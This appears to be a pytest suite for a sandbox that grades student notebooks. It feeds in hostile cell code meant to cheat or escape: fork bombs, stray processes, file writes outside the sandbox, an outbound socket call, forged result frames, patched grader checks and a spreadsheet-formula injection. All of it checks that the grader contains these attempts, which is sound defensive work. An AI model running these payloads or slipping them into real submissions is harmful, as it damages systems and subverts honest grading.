"""Grading as a dishonest or careless student would try it: the sandbox (course/grading/).

Each attack sits in one exercise cell of a submission; the rest of that submission is honest.
Every attack must score 0 for its exercise with a reason, leave the rest of the submission graded,
the repository byte for byte as it was, nothing written outside the sandbox's scratch folder, no
process behind, and an honest student's rows exactly as when graded alone.

The fast set (one notebook) runs in ``make test``; the whole set (kills, endless loops, memory
and fork bombs, …, about half a minute) runs with SANDBOX_FULL=1: ``make test-sandbox``, in CI.
Without bubblewrap these tests are skipped, unless SANDBOX_REQUIRED=1 (CI) makes that a failure.
"""

import hashlib
import os
import subprocess
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest

from course import synthetic_class
from course.grading import (
    harness,
    notebooks,
    report,
    runner,
    sandbox,
    scope,
    submissions,
    wire,
)

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENTS = notebooks.discover(ROOT / "notebooks")
MARK = "sandbox-test-" + hashlib.sha1(str(os.getpid()).encode()).hexdigest()[:10]
FULL = os.environ.get("SANDBOX_FULL") == "1"

if sandbox.bwrap() is None and os.environ.get("SANDBOX_REQUIRED") == "1":
    raise RuntimeError("SANDBOX_REQUIRED=1 but bubblewrap (bwrap) is not installed")
pytestmark = pytest.mark.skipif(sandbox.bwrap() is None, reason="bubblewrap is not installed")

OUTSIDE = [ROOT / f"{MARK}.txt", Path.home() / f"{MARK}.txt", Path("/tmp") / f"{MARK}.txt",
           Path("/var/tmp") / f"{MARK}.txt"]
WATCHED = [ROOT / "README.md", ROOT / "course" / "grading" / "hidden_cases.py",
           ROOT / "exercises" / "checks.py", ROOT / "notebooks" / "02_forward_pass.ipynb"]

# target -> (the code that replaces the solution region, words its reason must contain)
FAST = {
    "h1": (f"import json\n"
           f"nb = json.load(open({str(ROOT / 'notebooks' / '02_forward_pass.ipynb')!r}))\n"
           f"exec(open({str(ROOT / 'course' / 'grading' / 'hidden_cases.py')!r}).read())\n"
           f"h1 = x @ w1", "FileNotFoundError"),
    "h1_relu": ("import builtins, sys\n"
                "np.allclose = np.array_equal = lambda *a, **k: True\n"
                "builtins.isinstance = lambda *a: True\n"
                "for m in list(sys.modules.values()):\n"
                "    for f in ('check_forward', 'compare', 'close'):\n"
                "        try:\n"
                "            setattr(m, f, lambda *a, **k: None)\n"
                "        except Exception:\n"
                "            pass\n"
                "h1_relu = np.zeros((1, 1))", ""),     # 0 either way: a shape, or its own crash
    "h2": ("import os\n"
           + "".join(f"try:\n    open({str(p)!r}, 'a').write('written by a student')\n"
                     f"except OSError:\n    pass\n" for p in OUTSIDE + WATCHED)
           + "try:\n    if os.fork() == 0:\n        import time\n        time.sleep(4242)\n"
           "except OSError:\n    pass\n"
           "h2 = np.zeros((1, 1))", "shape"),
    "h2_relu": ("import os, json, struct\n"
                "fake = json.dumps({'op': 'result', 'values': {}, 'passed': True, 'points': 1,"
                " 'nblobs': 0}).encode()\n"
                "done = json.dumps({'op': 'done', 'status': 0, 'nblobs': 0}).encode()\n"
                "for fd in range(64):\n"
                "    for msg in (fake, done):\n"
                "        try:\n"
                "            os.write(fd, struct.pack('>I', len(msg)) + msg)\n"
                "        except OSError:\n"
                "            pass\n"
                "print('{\"passed\": true, \"points\": 1}')\n"
                "h2_relu = 'passed'", "h2_relu"),
    "y_pred": ("y_pred = helpers.forward(params, x)[0]", "reference implementation"),
    "L": ("import socket\n"
          "socket.create_connection(('1.1.1.1', 53), timeout=2).sendall(b'grades')\n"
          "L = np.sum((y_pred - y) ** 2)", "OSError"),
}

FULL_SET = {
    # the parent is the sandbox's init, out of reach of a signal from inside: nothing happens,
    # and the honest line after it is graded
    "dy": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
           "os.kill(1, signal.SIGSTOP)\ndy = 2 * (y_pred - y)", None),
    "dw3": ("import signal\n"
            "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU,"
            " signal.SIGHUP):\n"
            "    signal.signal(s, signal.SIG_IGN)\n"
            "while True:\n"
            "    try:\n"
            "        pass\n"
            "    except BaseException:\n"
            "        pass", "time limit"),
    "db3": ("hog = np.ones(1 << 28)                           # 2 GiB, over the 1 GiB limit\n"
            "db3 = dy.sum(axis=0, keepdims=True)", "MemoryError"),
    "dh2": ("import os\n"
            "while True:\n"
            "    try:\n"
            "        os.fork()\n"
            "    except OSError:\n"
            "        pass", "time limit"),
    "dw2": ("chunk = b'x' * (1 << 20)\n"
            "with open('/tmp/fill', 'wb') as f:\n"
            "    while True:\n"
            "        f.write(chunk)", "OSError"),
    "db2": ("while True:\n    print('x' * 10_000)", "time limit"),
    "dh1": ("from helpers import backward\n"
            "dh1 = backward(params, x, y, forward(params, x)[1]) and None", "reference"),
    "dw1": ("import course.grading.harness as h\nh.describe = None\ndw1 = x.T @ dh1",
            "reference"),
    "db1": ("import os, subprocess\n"
            "try:\n"
            "    subprocess.Popen(['sleep', '4242'], start_new_session=True)\n"
            "except OSError:\n"
            "    pass\n"
            "try:\n"
            "    if os.fork() == 0:\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            "            import time\n"
            "            time.sleep(4242)\n"
            "        os._exit(0)\n"
            "except OSError:\n"
            "    pass\n"
            "db1 = np.ones((1, n)) @ dh1", None),                    # honest value, stray process
    # 07's region is the body of central_difference(params, x, y, name, epsilon)
    "central_difference": ("return backward(params, x, y, forward(params, x)[1])[name]",
                           "reference"),
    "new_params": ("import ctypes\nctypes.string_at(0)", "died"),
}


def _notebooks(regions):
    """{name: student notebook answered with the solutions, ``regions`` replacing some}."""
    return {n: synthetic_class._filled(nbformat.read(ROOT / "student" / n, as_version=4), a,
                                       regions)
            for n, a in ASSIGNMENTS.items()}


def _submission(folder, student, names, regions):
    (folder / student).mkdir(parents=True)
    for n, nb in _notebooks(regions).items():
        if n in names:
            nbformat.write(nb, folder / student / n)
    return submissions.Submission(student, sorted((folder / student).iterdir()))


def _state():
    """What must not change: the repository's files and status, the places outside."""
    status = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=ROOT,
                            capture_output=True, text=True).stdout
    return (status, [hashlib.sha256(p.read_bytes()).hexdigest() for p in WATCHED],
            [p.exists() for p in OUTSIDE])


def _left_behind():
    """Processes of this test's sandboxes still running (their command lines carry MARK, or
    they are the strays the attacks start), once the kernel has had a moment to end them."""
    for _ in range(50):
        out = _running()
        if not out:
            break
        time.sleep(0.1)
    return out


def _running():
    out = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                cmd = (p / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARK in cmd or "sleep 4242" in cmd:
                out.append(f"{p.name}: {cmd[:80]}")
    return out


@pytest.fixture()
def marked(monkeypatch):
    monkeypatch.setattr(sandbox, "CHILD_SOURCE", f"# {MARK}\n" + sandbox.CHILD_SOURCE)


def _key(rows):
    return [(r["cell_id"], r["points"], r["mistake"], r["notes"]) for r in rows]


def _attack(tmp_path, attacks, time_limit=2.0, honest_notebooks=()):
    names = {e.notebook for e in _exercises(attacks)} | set(honest_notebooks)
    assignments = {n: a for n, a in ASSIGNMENTS.items() if n in names}
    limits = runner.Limits(time_limit=time_limit)
    honest = _submission(tmp_path / "alone", "honest", names, {})
    alone = runner.grade_submission(honest, assignments, limits)
    before = _state()
    subs = [_submission(tmp_path / "class", "cheater", names,
                        {t: code for t, (code, _) in attacks.items()}),
            _submission(tmp_path / "class", "honest", names, {})]
    rows = runner.grade_class(subs, assignments, limits, jobs=1)
    assert _state() == before
    assert _left_behind() == []
    assert _key([r for r in rows if r["student"] == "honest"]) == _key(alone)
    assert all(r["passed"] for r in alone)
    cheat = {r["cell_id"]: r for r in rows if r["student"] == "cheater"}
    for e in _exercises(attacks):
        code, words = next(attacks[t] for t in e.targets if t in attacks)
        r = cheat.pop(e.cell_id)
        if words is None:
            continue
        assert r["points"] == 0, f"{e.name}: {r}"
        assert words in r["mistake"], f"{e.name}: {r['mistake']}"
    assert cheat and all(r["passed"] for r in cheat.values()), cheat   # the rest is graded


def _exercises(attacks):
    return [e for a in ASSIGNMENTS.values() for e in a.exercises
            if any(t in attacks for t in e.targets)]


def test_fast_attacks_score_zero_and_change_nothing(tmp_path, marked):
    fast = {k: v for k, v in FAST.items() if k != "L"}            # L stays honest: the rest
    _attack(tmp_path, fast)


def test_no_network_in_the_sandbox(tmp_path, marked):
    sub = _submission(tmp_path, "s", {"02_forward_pass.ipynb"}, {"L": FAST["L"][0]})
    rows = runner.grade_submission(sub, {"02_forward_pass.ipynb":
                                         ASSIGNMENTS["02_forward_pass.ipynb"]}, runner.Limits())
    (r,) = [r for r in rows if r["exercise"] == "L"]
    assert r["points"] == 0 and "OSError" in r["mistake"] and "unreachable" in r["mistake"]


def test_a_cell_cannot_start_a_process(tmp_path, marked):
    code = "import subprocess\nsubprocess.run(['true'])\nh1 = x @ w1 + b1"
    sub = _submission(tmp_path, "s", {"02_forward_pass.ipynb"}, {"h1": code})
    rows = runner.grade_submission(sub, {"02_forward_pass.ipynb":
                                         ASSIGNMENTS["02_forward_pass.ipynb"]}, runner.Limits())
    (r,) = [r for r in rows if r["exercise"] == "h1"]
    assert r["points"] == 0 and "BlockingIOError" in r["mistake"], r["mistake"]
    assert all(r["passed"] for r in rows if r["exercise"] != "h1")


def test_a_busy_loop_is_stopped_by_its_cpu_limit_before_the_wall_clock(tmp_path, marked):
    """An endless loop costs its CPU limit, not the whole wall-clock limit: a class with one
    is not held up for the time limit (and a sleeping cell, using no CPU, still meets the
    wall-clock limit)."""
    code = "while True:\n    pass"
    sub = _submission(tmp_path, "s", {"02_forward_pass.ipynb"}, {"h1": code})
    t0 = time.monotonic()
    rows = runner.grade_submission(sub, {"02_forward_pass.ipynb":
                                         ASSIGNMENTS["02_forward_pass.ipynb"]},
                                   runner.Limits(time_limit=60, cpu_limit=1))
    assert time.monotonic() - t0 < 30                  # far below 60: the CPU limit stopped it
    (r,) = [r for r in rows if r["exercise"] == "h1"]
    assert r["points"] == 0 and "more than 1 s of CPU time" in r["mistake"], r["mistake"]
    assert all(r["passed"] for r in rows if r["exercise"] != "h1")


def test_an_answer_by_the_reference_scores_0_but_an_own_forward_is_fine(tmp_path, marked):
    name = "07_gradient_checking.ipynb"
    own = ("def forward(params, x):                    # the student's own, not helpers'\n"
           "    h1 = np.maximum(x @ params['w1'] + params['b1'], 0)\n"
           "    h2 = np.maximum(h1 @ params['w2'] + params['b2'], 0)\n"
           "    return h2 @ params['w3'] + params['b3'], None\n"
           "for i in np.ndindex(p.shape):\n"
           "    keep = p[i]\n"
           "    p[i] = keep + epsilon\n"
           "    up = np.sum((forward(params, x)[0] - y) ** 2)\n"
           "    p[i] = keep - epsilon\n"
           "    down = np.sum((forward(params, x)[0] - y) ** 2)\n"
           "    p[i] = keep\n"
           "    estimate[i] = (up - down) / (2 * epsilon)")
    for code, passed in ((own, True), (FULL_SET["central_difference"][0], False)):
        folder = tmp_path / str(passed)
        sub = _submission(folder, "s", {name}, {"central_difference": code})
        (r,) = runner.grade_submission(sub, {name: ASSIGNMENTS[name]}, runner.Limits())
        assert r["passed"] is passed, r["mistake"]
        if not passed:
            assert "uses backward" in r["mistake"] and "reference implementation" in \
                r["mistake"]


def test_the_wire_carries_data_only():
    blobs = []
    tree = wire.encode({"a": np.arange(6.0).reshape(2, 3), "s": np.float64(2.5), "n": 3,
                         "t": (1, [True, None]), "f": len, "o": np.array([object()])}, blobs)
    back = wire.decode(tree, blobs)
    assert np.array_equal(back["a"], np.arange(6.0).reshape(2, 3)) and back["a"].flags.writeable
    assert type(back["s"]) is np.float64 and back["t"] == (1, [True, None])
    assert isinstance(back["f"], wire.Opaque) and back["f"].callable
    assert isinstance(back["o"], wire.Opaque) and not back["o"].callable
    for bad in ({"a": [0, "|O8", [1]]}, {"a": [0, "<f8", [5]]}, {"z": 1}, {"a": [3, "<f8", []]}):
        with pytest.raises(wire.WireError):
            wire.decode(bad, [b"\0" * 8])


@pytest.mark.skipif(not FULL, reason="the whole set: make test-sandbox (SANDBOX_FULL=1)")
def test_the_whole_set_of_attacks_in_one_class(tmp_path, marked):
    _attack(tmp_path, {**FAST, **FULL_SET}, time_limit=1.0,
            honest_notebooks=["11_beyond_the_paper.ipynb"])


def _grade(tmp_path, name, regions):
    """{exercise name: row} of one submission of notebook ``name``, ``regions`` replaced."""
    sub = _submission(tmp_path, "s", {name}, regions)
    rows = runner.grade_submission(sub, {name: ASSIGNMENTS[name]}, runner.Limits())
    return {r["exercise"]: r for r in rows}


def test_07_cannot_return_the_analytic_gradients(tmp_path, marked):
    rows = _grade(tmp_path, "07_gradient_checking.ipynb",
                  {"central_difference": "return grads[name].copy()"})
    r = rows["central_difference"]
    assert r["points"] == 0 and "grads" in r["mistake"], r["mistake"]


def test_07_cannot_flatten_the_loss_by_changing_y(tmp_path, marked):
    """Changing y in place (to 1e150: L no longer moves with params, the reference would be 0
    and its tolerance infinite) does not make a wrong estimate pass: the function gets copies."""
    rows = _grade(tmp_path, "07_gradient_checking.ipynb",
                  {"central_difference": "y[...] = 1e150\nreturn np.ones(params[name].shape)"})
    assert rows["central_difference"]["points"] == 0, rows["central_difference"]


def _literal(name, target):
    """The notebook's own value of ``target``, as code: an answer copied from the outputs."""
    a = ASSIGNMENTS[name]
    (e,) = [e for e in a.exercises if target in e.targets]
    ns = dict(harness.prepared(a).before[e.cell_id])
    exec(e.solution, ns)                                                    # noqa: S102
    return f"np.array({ns[target].tolist()!r})"


def test_a_cell_gets_no_answer_by_name(tmp_path, marked):
    """Nor in the notebook's namespace nor in a hidden case: grads, cache, the dy… gradients."""
    dw3, h1 = _literal("03_output_layer.ipynb", "dw3"), _literal("02_forward_pass.ipynb", "h1")
    rows = _grade(tmp_path / "a", "03_output_layer.ipynb",
                  {"dw3": f"try:\n    dw3 = grads['w3']\nexcept NameError:\n    dw3 = {dw3}",
                   "db3": "db3 = grads['b3']"})
    assert rows["dw3"]["points"] == 0 and "hidden case" in rows["dw3"]["mistake"]
    assert rows["db3"]["points"] == 0 and "name 'grads' is not defined" in rows["db3"]["mistake"]
    assert rows["dy"]["passed"]
    rows = _grade(tmp_path / "b", "02_forward_pass.ipynb",
                  {"h1": f"try:\n    h1 = cache['h1']\nexcept NameError:\n    h1 = {h1}"})
    assert rows["h1"]["points"] == 0 and "hidden case" in rows["h1"]["mistake"]
    # honest answers from other data than the solution's (not dy; dy in 05) still pass
    rows = _grade(tmp_path / "c", "04_second_hidden_layer.ipynb",
                  {"dh2": "dh2 = (2 * (y_pred - y)) @ w3.T * A"})
    assert all(r["passed"] for r in rows.values()), rows
    rows = _grade(tmp_path / "d", "05_first_hidden_layer.ipynb",
                  {"dh1": "dh1 = ((dy @ w3.T) * A) @ w2.T * B"})
    assert all(r["passed"] for r in rows.values()), rows


def test_dev_is_read_only(tmp_path, marked):
    rows = _grade(tmp_path, "02_forward_pass.ipynb",
                  {"h1": "open('/dev/shm/x', 'wb').write(b'1' * 4096)\nh1 = x @ w1 + b1",
                   "h2": "open('/dev/x', 'wb').write(b'1' * 4096)\nh2 = h1_relu @ w2 + b2",
                   "y_pred": "open('/dev/null', 'w').write('fine')\ny_pred = h2_relu @ w3 + b3"})
    for t in ("h1", "h2"):
        assert rows[t]["points"] == 0 and "OSError" in rows[t]["mistake"], rows[t]["mistake"]
    assert rows["y_pred"]["passed"] and rows["L"]["passed"]


def test_given_functions_refuse_data_the_exercise_does_not_have(tmp_path, marked):
    big = ("q = {k: np.ones((300, 300)) for k in ('w1', 'w2', 'w3')}\n"
           "q.update({k: np.zeros((1, 300)) for k in ('b1', 'b2', 'b3')})\n"
           "forward(q, np.ones((300, 300)))\n"
           "return np.zeros(params[name].shape)")
    rows = _grade(tmp_path, "07_gradient_checking.ipynb", {"central_difference": big})
    r = rows["central_difference"]
    assert r["points"] == 0 and "shapes and types of this exercise's data" in r["mistake"]
    fn = scope.guarded("f", lambda *a: "ran", scope.shapes_of([np.zeros((2, 3))]))
    assert fn(np.ones((2, 3)), 1.5, "w1") == "ran"
    for bad in ((np.ones((3, 2)),), (np.ones((2, 3), dtype=np.float32),),
                ([np.ones((2, 3))] * 100,)):
        with pytest.raises(ValueError):
            fn(*bad)


def test_forged_frames_and_exception_names_are_the_students(tmp_path, marked):
    forge = ("import os, json, struct\n"
             "for shape in ([0, 2 ** 64], [0, 2 ** 62, 4]):\n"
             "    h = json.dumps({'op': 'result', 'printed': 'x', 'nblobs': 1, 'values':"
             " {'h2': {'a': [0, '<f8', shape]}}}).encode()\n"
             "    for fd in range(3, 64):\n"
             "        try:\n"
             "            os.write(fd, struct.pack('>I', len(h)) + h + struct.pack('>Q', 0))\n"
             "        except OSError:\n"
             "            pass\n"
             "import sys\n"
             "assert not hasattr(sys.modules['__main__'], 'write_frame')\n"
             "os._exit(0)")
    rows = _grade(tmp_path, "02_forward_pass.ipynb", {
        "h1": "raise type('=HYPERLINK(\"http://x.example\")', (Exception,), {})('\\0')",
        "h1_relu": "raise type('NoSandbox', (Exception,), {})('bwrap crashed')",
        "h2_relu": "raise type('AssertionError', (Exception,), {})('h2_relu matches (4)')",
        "y_pred": "raise type('Budget', (Exception,), {})()",
        "h2": forge})
    assert all(rows[t]["points"] == 0 for t in ("h1", "h1_relu", "h2", "h2_relu", "y_pred"))
    assert rows["h1_relu"]["mistake"].startswith("your exercise cell (as in the notebook) raised "
                                                 "NoSandbox: bwrap crashed")
    assert "raised AssertionError: h2_relu" in rows["h2_relu"]["mistake"]
    assert "raised Budget" in rows["y_pred"]["mistake"]
    assert "died or gave no readable answer" in rows["h2"]["mistake"], rows["h2"]["mistake"]
    report.write_csv(list(rows.values()), tmp_path / "grades.csv")
    text = (tmp_path / "grades.csv").read_text(encoding="utf-8")
    assert "\0" not in text and rows["L"]["passed"]
    (h1,) = [r for r in report.read_csv(tmp_path / "grades.csv") if r["exercise"] == "h1"]
    assert h1["mistake"].startswith("your exercise cell") and "=HYPERLINK" in h1["mistake"]


def test_csv_fields_are_never_formulas():
    assert report.cell("=HYPERLINK(\"x\")") == "'=HYPERLINK(\"x\")"
    assert [report.cell(s) for s in ("+1", "-1", "@SUM(A1)", "\tx", "a\0b\x1bc", "ok\nok")] == \
        ["'+1", "'-1", "'@SUM(A1)", "'\tx", "a b c", "ok\nok"]


def test_wire_decode_raises_wire_error_only():
    for bad in ({"a": [0, "<f8", [0, 2 ** 64]]}, {"a": [0, "<f8", [0, 2 ** 62, 4]]},
                {"a": [0, "<f8", [-1]]}, {"s": [0, "<f8", [1]]}, {"l": "x"},
                {"g": {"state": "x", "inc": None}}, {"d": [["k"]]}):
        with pytest.raises(wire.WireError):
            wire.decode(bad, [b""])


def test_submissions_are_regular_files_read_without_links(tmp_path):
    good = ROOT / "student" / "02_forward_pass.ipynb"
    folder = tmp_path / "subs"
    (folder / "alice").mkdir(parents=True)
    os.mkfifo(folder / "alice" / "02_forward_pass.ipynb")
    (folder / "bob").mkdir()
    (folder / "bob" / "02_forward_pass.ipynb").symlink_to(good)
    (folder / "carol").symlink_to(ROOT / "notebooks", target_is_directory=True)
    (folder / "dan").mkdir()
    (folder / "dan" / "teacher").symlink_to(ROOT / "notebooks", target_is_directory=True)
    (folder / "eve").mkdir()
    (folder / "eve" / "02_forward_pass.ipynb").write_bytes(b" " * (submissions.MAX_BYTES + 1))
    subs = {s.student: s for s in submissions.collect(folder)}
    for who in ("carol", "dan"):
        (path,) = subs[who].files
        assert "not a regular file (a symbolic link)" in submissions.read(path)[1]
    assert "not a regular file" in submissions.read(subs["alice"].files[0])[1]
    assert "not a regular file" in submissions.read(subs["bob"].files[0])[1]
    assert "too large" in submissions.read(subs["eve"].files[0])[1]
    assert submissions.read(good)[0] is not None
    name = "02_forward_pass.ipynb"
    for who in ("alice", "bob", "carol"):
        rows = runner.grade_submission(subs[who], {name: ASSIGNMENTS[name]}, runner.Limits())
        assert all(r["points"] == 0 and "not a regular file" in r["mistake"] + r["notes"]
                   for r in rows), rows
